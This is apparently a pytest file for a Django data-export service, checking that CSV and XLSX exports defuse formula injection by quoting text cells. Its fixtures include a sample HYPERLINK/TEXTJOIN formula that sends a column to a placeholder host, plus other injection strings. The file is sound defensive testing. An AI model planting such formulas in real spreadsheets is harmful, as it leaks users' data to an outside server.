"""Exports never turn a text cell into a formula (issue 9, finding 7: formula / "CSV" injection).

A partner may type anything into a text cell, for example a HYPERLINK formula that sends the column to
their server when the owner opens the export. XLSX exports write text cells as strings; CSV exports put a
single quote before a text cell that a spreadsheet would read as a formula (= + - @ tab, carriage return).
Typed numbers and dates are never changed.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kaidan.catalog.models import Field
from kaidan.core.formulas import FORMULA_STARTS, defuse
from kaidan.store import selectors
from kaidan.store.exports import write

pytestmark = pytest.mark.django_db(transaction=False)

EXFILTRATE = '=HYPERLINK("http://x"&TEXTJOIN(",",TRUE,B2:B41),"詳細")'
DANGEROUS = [EXFILTRATE, "+81-3-0000-0000", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
FIELDS = [
    Field(name="memo", label="備考", type="text"),
    Field(name="balance", label="残高", type="integer"),
    Field(name="rate", label="率", type="decimal"),
    Field(name="opened", label="開設日", type="date"),
]


def export(fmt: str, fields: list[Field], rows: list[list]) -> bytes:
    out = io.BytesIO()
    write(fmt, fields, iter(rows), out)
    return out.getvalue()


def csv_rows(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_cell_that_looks_like_a_formula_gets_a_quote(text):
    assert defuse(text) == "'" + text
    assert text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize(
    "value", ["池尻小学校", "", "1=1", "a-b", "'=quoted already", None, -100, Decimal("-1.5")]
)
def test_other_values_are_left_as_they_are(value):
    assert defuse(value) == value


@pytest.mark.parametrize(("fmt", "encoding"), [("csv", "utf-8-sig"), ("csv-sjis", "cp932")])
def test_csv_exports_quote_formula_text_and_leave_numbers_and_dates(fmt, encoding):
    rows = [[text, -100, Decimal("-0.5"), date(2023, 4, 1)] for text in DANGEROUS]
    rows.append(["池尻小学校", 300, Decimal("1.25"), None])
    got = csv_rows(export(fmt, FIELDS, rows), encoding)
    assert got[0] == ["備考", "残高", "率", "開設日"]
    assert [r[0] for r in got[1:-1]] == ["'" + t for t in DANGEROUS]
    assert {tuple(r[1:]) for r in got[1:-1]} == {("-100", "-0.5", "2023-04-01")}
    assert got[-1] == ["池尻小学校", "300", "1.25", ""]


def test_a_formula_header_is_quoted_too():
    fields = [Field(name="x", label="=1+1", type="text")]
    assert csv_rows(export("csv", fields, [["a"]]), "utf-8-sig")[0] == ["'=1+1"]


def test_xlsx_exports_write_text_cells_as_strings_never_as_formulas():
    rows = [[text, -100, Decimal("-0.5"), date(2023, 4, 1)] for text in [*DANGEROUS, "#N/A"]]
    sheet = load_workbook(io.BytesIO(export("xlsx", FIELDS, rows))).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2, max_col=2))
    for (text_cell, number_cell), text in zip(cells, [*DANGEROUS, "#N/A"], strict=True):
        assert (text_cell.data_type, text_cell.value) == ("s", text)
        assert (number_cell.data_type, number_cell.value) == ("n", -100)


def test_a_partners_formula_imported_into_a_dataset_exports_as_text(do_import, write_csv):
    text = "番号,名称,備考\n1,池尻小学校,通常\n2,太子堂中学校,=1+1\n"
    dataset = do_import(write_csv("v1.csv", text)).dataset
    fields = selectors.fields_at(dataset, dataset.current_revision)
    rows = [values for _id, values in selectors.iter_rows(dataset, fields)]
    assert rows[1][2] == "=1+1"
    assert csv_rows(export("csv", fields, rows), "utf-8-sig")[2] == ["2", "太子堂中学校", "'=1+1"]
    sheet = load_workbook(io.BytesIO(export("xlsx", fields, rows))).active
    assert sheet is not None
    assert (sheet["C3"].data_type, sheet["C3"].value) == ("s", "=1+1")


def test_the_rejected_values_report_quotes_a_formula_value(do_import, write_csv):
    from kaidan.ingest.exceptions import ImportRejected, report_csv

    do_import(write_csv("v1.csv", "番号,定員\n1,300\n2,400\n"), key="番号")
    with pytest.raises(ImportRejected) as exc:
        do_import(write_csv("bad.csv", "番号,定員\n1,300\n2,=1+1\n"), mode="replace")
    report = csv_rows(report_csv(exc.value.rejected), "utf-8-sig")
    assert report[1][1:5] == ["", "3", "定員", "'=1+1"]


def test_the_audit_export_quotes_a_formula_label_in_csv_and_keeps_it_exact_in_json_lines():
    import json

    from kaidan.access.services import SYSTEM
    from kaidan.audit.services import export_entries, record

    class Named:
        pk = 7

        def __str__(self) -> str:
            return EXFILTRATE

    entry = record("auth.login", Named(), actor=SYSTEM)
    text = io.StringIO()
    export_entries(text, "csv", [entry])
    header, row = csv_rows(text.getvalue().encode(), "utf-8")
    assert row[header.index("object_label")] == "'" + EXFILTRATE
    assert row[header.index("seq")] == str(entry.seq)
    lines = io.StringIO()
    export_entries(lines, "jsonl", [entry])
    assert json.loads(lines.getvalue())["object_label"] == EXFILTRATE
